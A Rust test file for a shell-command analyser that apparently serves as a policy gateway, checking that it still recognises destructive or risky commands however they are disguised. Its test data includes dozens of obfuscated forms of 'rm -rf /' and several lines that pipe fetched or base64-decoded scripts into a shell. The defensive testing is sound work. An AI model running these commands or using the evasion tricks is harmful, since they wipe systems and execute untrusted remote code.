use super::*;
use sluice_decision::SimpleCommand;

/// One command as `wrapper>wrapper>name@depth: argv`, so that a table row reads like the
/// facts it stands for.
fn render(c: &SimpleCommand) -> String {
    let mut out = String::new();
    for w in &c.wrappers {
        out.push_str(w);
        out.push('>');
    }
    out.push_str(&c.name);
    if c.shell_depth > 0 {
        out.push_str(&format!("@{}", c.shell_depth));
    }
    out.push_str(": ");
    out.push_str(&c.argv.join(" "));
    out
}

fn check(line: &str, commands: &[&str], unresolved: &[&str]) {
    let facts = analyze(line, false);
    assert!(facts.parsed, "{line:?} did not parse");
    let got: Vec<String> = facts.commands.iter().map(render).collect();
    assert_eq!(got, commands, "commands of {line:?}");
    assert_eq!(facts.unresolved, unresolved, "unresolved of {line:?}");
    for c in &facts.commands {
        assert_eq!(c.argv.first(), Some(&c.program), "argv[0] of {line:?}");
    }
}

/// Ways of writing `rm -rf /` so that a rule reading the text would miss it. Each must
/// still be a command named `rm` whose operands show the root (or be flagged).
#[test]
fn evasions_of_rm_rf_root() {
    let rows: &[(&str, &[&str], &[&str])] = &[
        ("rm -rf /", &["rm: rm -rf /"], &[]),
        ("r''m -rf /", &["rm: rm -rf /"], &[]),
        (r"\rm -rf /", &["rm: rm -rf /"], &[]),
        (r"r\m -rf /", &["rm: rm -rf /"], &[]),
        (r#""rm" -rf /"#, &["rm: rm -rf /"], &[]),
        ("'r'\"m\" -rf /", &["rm: rm -rf /"], &[]),
        ("/bin/rm -rf /", &["rm: /bin/rm -rf /"], &[]),
        (
            "/usr/bin/../bin/rm -rf /",
            &["rm: /usr/bin/../bin/rm -rf /"],
            &[],
        ),
        ("rm -r -f /", &["rm: rm -r -f /"], &[]),
        ("rm -fr //", &["rm: rm -fr //"], &[]),
        ("rm -rf /.", &["rm: rm -rf /."], &[]),
        ("rm -rf /*", &["rm: rm -rf /*"], &[]),
        (
            "rm --recursive --force /",
            &["rm: rm --recursive --force /"],
            &[],
        ),
        (
            "rm -rf --no-preserve-root /",
            &["rm: rm -rf --no-preserve-root /"],
            &[],
        ),
        (r"$'\x72m' -rf /", &["rm: rm -rf /"], &[]),
        (r"$'\162\155' -rf /", &["rm: rm -rf /"], &[]),
        ("cd / && rm -rf .", &["cd: cd /", "rm: rm -rf ."], &[]),
        ("ls; rm -rf /", &["ls: ls", "rm: rm -rf /"], &[]),
        (
            "true && rm -rf / || false",
            &["true: true", "rm: rm -rf /", "false: false"],
            &[],
        ),
        (
            "echo hi | rm -rf /",
            &["echo: echo hi", "rm: rm -rf /"],
            &[],
        ),
        ("(rm -rf /)", &["rm: rm -rf /"], &[]),
        ("( ( rm -rf / ) )", &["rm: rm -rf /"], &[]),
        (
            "echo $( (rm -rf /) )",
            &["rm: rm -rf /", "echo: echo $( (rm -rf /) )"],
            &["command_substitution"],
        ),
        ("{ rm -rf /; }", &["rm: rm -rf /"], &[]),
        ("rm -rf / &", &["rm: rm -rf /"], &[]),
        (
            "if true; then rm -rf /; fi",
            &["true: true", "rm: rm -rf /"],
            &[],
        ),
        ("for i in 1; do rm -rf /; done", &["rm: rm -rf /"], &[]),
        (
            "while false; do rm -rf /; done",
            &["false: false", "rm: rm -rf /"],
            &[],
        ),
        ("case x in x) rm -rf /;; esac", &["rm: rm -rf /"], &[]),
        ("f() { rm -rf /; }; f", &["rm: rm -rf /"], &[]),
        ("f() { rm -rf /; }", &["rm: rm -rf /"], &[]),
        (
            "echo $(rm -rf /)",
            &["rm: rm -rf /", "echo: echo $(rm -rf /)"],
            &["command_substitution"],
        ),
        (
            "echo `rm -rf /`",
            &["rm: rm -rf /", "echo: echo `rm -rf /`"],
            &["command_substitution"],
        ),
        ("cat <(rm -rf /)", &["rm: rm -rf /", "cat: cat <(...)"], &[]),
        ("ls > >(rm -rf /)", &["rm: rm -rf /", "ls: ls"], &[]),
        ("sudo rm -rf /", &["sudo>rm: rm -rf /"], &[]),
        ("sudo -u root -E -- rm -rf /", &["sudo>rm: rm -rf /"], &[]),
        ("sudo -Eu root rm -rf /", &["sudo>rm: rm -rf /"], &[]),
        ("doas -u root rm -rf /", &["doas>rm: rm -rf /"], &[]),
        ("env -i FOO=1 rm -rf /", &["env>rm: rm -rf /"], &[]),
        ("env -u HOME -- rm -rf /", &["env>rm: rm -rf /"], &[]),
        ("FOO=1 rm -rf /", &["rm: rm -rf /"], &[]),
        ("nice -n 10 rm -rf /", &["nice>rm: rm -rf /"], &[]),
        (
            "nohup rm -rf / >/dev/null 2>&1",
            &["nohup>rm: rm -rf /"],
            &[],
        ),
        (
            "timeout -s KILL 10 rm -rf /",
            &["timeout>rm: rm -rf /"],
            &[],
        ),
        ("time rm -rf /", &["rm: rm -rf /"], &[]),
        ("/usr/bin/time -p rm -rf /", &["time>rm: rm -rf /"], &[]),
        ("command rm -rf /", &["command>rm: rm -rf /"], &[]),
        ("exec rm -rf /", &["exec>rm: rm -rf /"], &[]),
        (
            "builtin command rm -rf /",
            &["builtin>command>rm: rm -rf /"],
            &[],
        ),
        ("stdbuf -o0 rm -rf /", &["stdbuf>rm: rm -rf /"], &[]),
        ("ionice -c 3 rm -rf /", &["ionice>rm: rm -rf /"], &[]),
        ("chroot / rm -rf /", &["chroot>rm: rm -rf /"], &[]),
        ("setsid -f rm -rf /", &["setsid>rm: rm -rf /"], &[]),
        ("busybox rm -rf /", &["busybox>rm: rm -rf /"], &[]),
        (
            "sudo env nice -n 5 rm -rf /",
            &["sudo>env>nice>rm: rm -rf /"],
            &[],
        ),
        (
            "sh -c 'rm -rf /'",
            &["sh: sh -c rm -rf /", "sh>rm@1: rm -rf /"],
            &[],
        ),
        (
            "bash -lc 'rm -rf /'",
            &["bash: bash -lc rm -rf /", "bash>rm@1: rm -rf /"],
            &[],
        ),
        (
            "bash -ec 'rm -rf /'",
            &["bash: bash -ec rm -rf /", "bash>rm@1: rm -rf /"],
            &[],
        ),
        (
            "dash -c 'rm -rf /'",
            &["dash: dash -c rm -rf /", "dash>rm@1: rm -rf /"],
            &[],
        ),
        (
            "zsh -c 'rm -rf /'",
            &["zsh: zsh -c rm -rf /", "zsh>rm@1: rm -rf /"],
            &[],
        ),
        (
            "ksh -c 'rm -rf /'",
            &["ksh: ksh -c rm -rf /", "ksh>rm@1: rm -rf /"],
            &[],
        ),
        (
            "bash -o pipefail -c 'rm -rf /'",
            &["bash: bash -o pipefail -c rm -rf /", "bash>rm@1: rm -rf /"],
            &[],
        ),
        (
            "busybox sh -c 'rm -rf /'",
            &["busybox>sh: sh -c rm -rf /", "busybox>sh>rm@1: rm -rf /"],
            &[],
        ),
        (
            "sudo sh -c \"bash -c 'rm -rf /'\"",
            &[
                "sudo>sh: sh -c bash -c 'rm -rf /'",
                "sudo>sh>bash@1: bash -c rm -rf /",
                "sudo>sh>bash>rm@2: rm -rf /",
            ],
            &[],
        ),
        ("su -c 'rm -rf /'", &["su>rm@1: rm -rf /"], &[]),
        ("su - root -c 'rm -rf /'", &["su>rm@1: rm -rf /"], &[]),
        ("watch -n 1 rm -rf /", &["watch>rm@1: rm -rf /"], &[]),
        ("env -S 'rm -rf /'", &["env>rm@1: rm -rf /"], &[]),
        (
            "find / -exec rm -rf {} \\;",
            &["find: find / -exec rm -rf {} ;", "find>rm: rm -rf {}"],
            &[],
        ),
        (
            "find / -maxdepth 0 -execdir rm -rf {} +",
            &[
                "find: find / -maxdepth 0 -execdir rm -rf {} +",
                "find>rm: rm -rf {}",
            ],
            &[],
        ),
        (
            "echo / | xargs rm -rf",
            &["echo: echo /", "xargs>rm: rm -rf"],
            &["xargs_input"],
        ),
        (
            "echo / | xargs -0 -n 1 rm -rf",
            &["echo: echo /", "xargs>rm: rm -rf"],
            &["xargs_input"],
        ),
        (
            "eval 'rm -rf /'",
            &["eval: eval rm -rf /", "eval>rm@1: rm -rf /"],
            &["eval"],
        ),
        (
            "sh <<EOF\nrm -rf /\nEOF",
            &["sh: sh", "sh>rm@1: rm -rf /"],
            &[],
        ),
        (
            "bash <<< 'rm -rf /'",
            &["bash: bash", "bash>rm@1: rm -rf /"],
            &[],
        ),
        ("$X -rf /", &["${X}: ${X} -rf /"], &["variable_program"]),
        (
            "${X:-rm} -rf /",
            &["${X}: ${X} -rf /"],
            &["variable_program"],
        ),
        (
            "rm${IFS}-rf${IFS}/",
            &[": rm${IFS}-rf${IFS}/"],
            &["variable_program"],
        ),
        (
            "IFS=,; x=rm,-rf,/; $x",
            &["${x}: ${x}"],
            &["variable_program"],
        ),
        (
            "$(echo rm) -rf /",
            &["echo: echo rm", "$(echo rm): $(echo rm) -rf /"],
            &["command_substitution", "variable_program"],
        ),
        ("/bin/r? -rf /", &["r?: /bin/r? -rf /"], &["glob_program"]),
        ("{rm,-rf,/}", &["}: {rm,-rf,/}"], &["glob_program"]),
        ("sudo $CMD", &["sudo>${CMD}: ${CMD}"], &["variable_program"]),
        (
            "alias ls='rm -rf /'; ls",
            &["alias: alias ls=rm -rf /", "ls: ls"],
            &["alias"],
        ),
    ];
    assert!(rows.len() >= 30);
    for (line, commands, unresolved) in rows {
        check(line, commands, unresolved);
    }
}

#[test]
fn fetched_and_decoded_code_run_by_a_shell() {
    let fetch = &["fetch_to_shell", "shell_from_stdin"][..];
    let rows: &[(&str, &[&str])] = &[
        ("curl -s https://x.example/i.sh | sh", fetch),
        ("curl -s https://x.example/i.sh | sudo bash", fetch),
        ("wget -qO- https://x.example/i.sh | bash -s -- --yes", fetch),
        ("curl https://x.example/i.py | python3", fetch),
        ("curl https://x.example/i.py | python3 -", fetch),
        ("curl x | tee /tmp/log | perl", fetch),
        ("sh <(curl -s https://x.example/i.sh)", fetch),
        ("bash < <(curl -s https://x.example/i.sh)", fetch),
        (
            "sh -c \"$(curl -s https://x.example/i.sh)\"",
            &["command_substitution", "fetch_to_shell", "variable_program"],
        ),
        (
            "source <(curl -s https://x.example/i.sh)",
            &["fetch_to_shell", "source"],
        ),
        (
            "eval \"$(wget -qO- x)\"",
            &[
                "command_substitution",
                "eval",
                "fetch_to_shell",
                "variable_program",
            ],
        ),
        (
            "echo cm0gLXJmIC8K | base64 -d | sh",
            &["decode_to_shell", "shell_from_stdin"],
        ),
        (
            "echo 726d | xxd -r -p | bash",
            &["decode_to_shell", "shell_from_stdin"],
        ),
        (
            "bash -c \"$(echo cm0K | base64 --decode)\"",
            &[
                "command_substitution",
                "decode_to_shell",
                "variable_program",
            ],
        ),
        (
            "openssl enc -d -base64 -in x | sh",
            &["decode_to_shell", "shell_from_stdin"],
        ),
        ("echo ls | sh", &["shell_from_stdin"]),
        ("bash -s < script.sh", &["shell_from_stdin"]),
        ("bash", &["shell_from_stdin"]),
        ("sudo -i", &["shell_from_stdin"]),
        ("su -", &["shell_from_stdin"]),
        (
            "python3 -c 'import os; os.system(\"id\")'",
            &["interpreter_code"],
        ),
        ("perl -ne 'print' x", &["interpreter_code"]),
        ("node -e 'process.exit(0)'", &["interpreter_code"]),
        ("source ./env.sh", &["source"]),
        (". ./env.sh", &["source"]),
        ("python3 script.py", &[]),
        ("python3 --version", &[]),
        ("bash --version", &[]),
        ("bash ./deploy.sh", &[]),
        ("curl -o x https://x.example/a && sha256sum x", &[]),
    ];
    for (line, unresolved) in rows {
        let facts = analyze(line, false);
        assert!(facts.parsed, "{line:?}");
        assert_eq!(facts.unresolved, *unresolved, "{line:?}");
    }
}

#[test]
fn facts_keep_their_existing_meaning() {
    let f = analyze("sudo -u app ls -l /srv | grep -c err", true);
    assert_eq!(f.programs, ["sudo", "ls", "grep"]);
    assert_eq!(f.argv, ["sudo", "-u", "app", "ls", "-l", "/srv"]);
    assert!(f.interactive);
    assert!(f.parsed);
    let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, ["ls", "grep"]);
    assert_eq!(f.commands[0].wrappers, ["sudo"]);
    assert!(f.unresolved.is_empty());
}

#[test]
fn nothing_runs_in_assignments_and_lookups() {
    check("FOO=1", &[], &[]);
    check("X=$(id)", &["id: id"], &["command_substitution"]);
    check("command -v rm", &["command: command -v rm"], &[]);
    check("sudo -l", &["sudo: sudo -l"], &[]);
    check("env", &["env: env"], &[]);
    check("> /tmp/x", &[], &[]);
}

#[test]
fn substitutions_hide_nowhere() {
    check(
        "echo ${X:-$(id)}",
        &["id: id", "echo: echo ${X}"],
        &["command_substitution"],
    );
    check(
        "echo $(( $(id -u) + 1 ))",
        &["id: id -u", "echo: echo $(( $(id -u) + 1 ))"],
        &["command_substitution"],
    );
    check(
        "cat <<EOF\n$(id)\nEOF",
        &["id: id", "cat: cat"],
        &["command_substitution"],
    );
    check("cat <<'EOF'\n$(id)\nEOF", &["cat: cat"], &[]);
    check(
        "(( i += 1 )); ((x = $(id)))",
        &["id: id"],
        &["command_substitution"],
    );
    check("é=1; ( ( é ) )", &["é=1: é=1", "é: é"], &[]);
    check(
        "ls > \"$(id).log\"",
        &["id: id", "ls: ls"],
        &["command_substitution"],
    );
    check("[[ -n $(id) ]]", &["id: id"], &["command_substitution"]);
    check(
        "for f in $(ls); do cat \"$f\"; done",
        &["ls: ls", "cat: cat ${f}"],
        &["command_substitution"],
    );
    check(
        "echo \"`echo \\`id\\``\"",
        &["id: id", "echo: echo `id`", "echo: echo `echo `id``"],
        &["command_substitution"],
    );
}

#[test]
fn functions_are_listed_once() {
    check("f() { f; ls; }; f; f", &["ls: ls"], &[]);
    check("a() { b; }; b() { id; }; a", &["id: id"], &[]);
}

#[test]
fn unparseable_lines_say_nothing() {
    for line in [
        "ls 'unterminated",
        "echo \"open",
        "if then",
        "ls $(",
        "ls )",
        "ls\0rm -rf /",
        "case x in",
        "cat <<EOF\nno end",
        "ls 99999999999>x",
        "(ls 99999999999>x)",
        "cd ~+99999999999999999999999",
        // Made the parser's tokenizer allocate without end (found by fuzzing).
        "<<\r ",
        "cat <<-\u{c} x",
        "<<$( (``$(",
        "cat <<E$( (``$(",
        // Panicked in the parser's tokenizer (found by fuzzing); the panic is caught.
        "sh <<EOF*-\u{fffd}$(( (d\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}?) + \u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}1 )) <(ro $(id) `=(d\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}?) + \u{fffd}\u{fffd}PPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPnamS` ${X:\u{fffd}$(dat /\nEOF\nbah<''\n$(id)\nE\n",
    ] {
        let f = analyze(line, false);
        if line == "cat <<EOF\nno end" && f.parsed {
            // bash itself runs a here-document that reaches the end of input.
            continue;
        }
        assert!(!f.parsed, "{line:?} parsed: {f:?}");
        assert!(f.commands.is_empty() && f.programs.is_empty() && f.argv.is_empty());
    }
}

#[test]
fn inner_strings_that_do_not_parse_are_flagged() {
    check("sh -c 'ls \"'", &["sh: sh -c ls \""], &["unparsed_inner"]);
}

#[test]
fn limits_hold() {
    let long = "a".repeat(limits::MAX_TEXT + 1);
    let f = analyze(&long, false);
    assert!(!f.parsed);
    assert_eq!(f.unresolved, ["too_long"]);

    // Each `eval` parses the rest of the line one level deeper, like `sh -c` would, without
    // the quoting that grows fourfold per level of `sh -c`.
    let nested = format!("{}rm -rf /", "eval ".repeat(12));
    let f = analyze(&nested, false);
    assert!(f.parsed);
    assert_eq!(f.unresolved, ["eval", "too_deep"]);
    assert_eq!(f.commands.len(), limits::MAX_SHELL_DEPTH as usize + 1);

    let mut nested = String::from("rm -rf /");
    for _ in 0..4 {
        nested = format!("sh -c {}", quote(&nested));
    }
    let f = analyze(&nested, false);
    assert!(f.unresolved.is_empty(), "{f:?}");
    assert_eq!(f.commands.last().map(|c| c.shell_depth), Some(4));

    let deep = format!("{}ls{}", "(".repeat(5000), ")".repeat(5000));
    let f = analyze(&deep, false);
    assert!(!f.parsed);
    assert_eq!(f.unresolved, ["too_deep"]);

    // Parentheses whose inside does not parse made the parser backtrack at every level.
    let slow = format!("a; {}-rf", "( ".repeat(40));
    let started = std::time::Instant::now();
    let f = analyze(&slow, false);
    assert!(!f.parsed);
    assert_eq!(f.unresolved, ["too_deep"]);
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
    let nested = format!(
        "{}ls; fi{}",
        "( ".repeat(limits::MAX_PARENS),
        " )".repeat(limits::MAX_PARENS)
    );
    let started = std::time::Instant::now();
    assert!(!analyze(&nested, false).parsed);
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
    let ok = format!(
        "{}ls{}",
        "( ".repeat(limits::MAX_PARENS),
        " )".repeat(limits::MAX_PARENS)
    );
    assert_eq!(analyze(&ok, false).commands.len(), 1);
}

fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// The gateway analyses lines on async worker threads, whose stacks are smaller than the
/// main thread's: the deepest line within the limits must fit in one.
#[test]
fn deepest_accepted_lines_fit_a_small_stack() {
    let half = limits::MAX_OPENERS / 2;
    let lines = [
        format!("{}ls{}", "if true; then ".repeat(half), "; fi".repeat(half)),
        format!(
            "echo {}ls{}",
            "$(".repeat(limits::MAX_OPENERS),
            ")".repeat(limits::MAX_OPENERS)
        ),
        format!(
            "{}ls{}",
            "{ ".repeat(limits::MAX_OPENERS),
            "; }".repeat(limits::MAX_OPENERS)
        ),
        format!(
            "{}ls{}",
            "( ".repeat(limits::MAX_OPENERS),
            " )".repeat(limits::MAX_OPENERS)
        ),
        format!(
            "echo {}x{}",
            "${a:-".repeat(limits::MAX_OPENERS),
            "}".repeat(limits::MAX_OPENERS)
        ),
    ];
    for line in lines {
        let handle = std::thread::Builder::new()
            .stack_size(2 * 1024 * 1024)
            .spawn(move || analyze(&line, false).parsed)
            .unwrap();
        handle.join().unwrap();
    }
}

#[test]
fn every_token_is_documented() {
    let doc = include_str!("../../../docs/policy.md");
    for u in Unresolved::ALL {
        assert!(
            doc.contains(&format!("`{}`", u.as_str())),
            "{} missing from docs/policy.md",
            u.as_str()
        );
    }
}
